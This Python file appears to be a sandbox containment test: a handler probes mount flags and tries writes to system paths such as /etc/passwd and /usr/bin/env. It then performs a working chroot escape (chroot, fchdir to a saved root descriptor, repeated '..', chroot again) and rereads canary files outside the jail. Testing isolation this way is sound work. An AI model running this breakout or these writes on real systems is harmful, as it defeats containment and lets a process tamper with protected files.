import os

import tries

ST_NOSUID, ST_NODEV = 2, 4


def handler(event):
    """Out of a root by all that root can do with directories; and what kind of mounts these are."""
    root = os.open('/', os.O_RDONLY)
    flags = {path: os.statvfs(path).f_flag for path in ('/', '/usr')}
    names = sorted(os.listdir('/'))
    before = {path: tries.outcome(lambda path=path: tries.read(path)) for path in event['canaries']}
    writes = {
        f'write {path}': tries.outcome(lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_CREAT)))
        for path in ('/new', '/etc/passwd', '/usr/bin/new', '/usr/bin/env', '/tmp/new')
    }
    os.chroot('/usr')
    os.fchdir(root)
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
    return {
        **before,
        **writes,
        **{f'above: {path}': tries.outcome(lambda path=path: tries.read(path)) for path in event['canaries']},
        'names': ' '.join(names),
        'flags': str(all(flag & ST_NOSUID and flag & ST_NODEV for flag in flags.values())),
    }
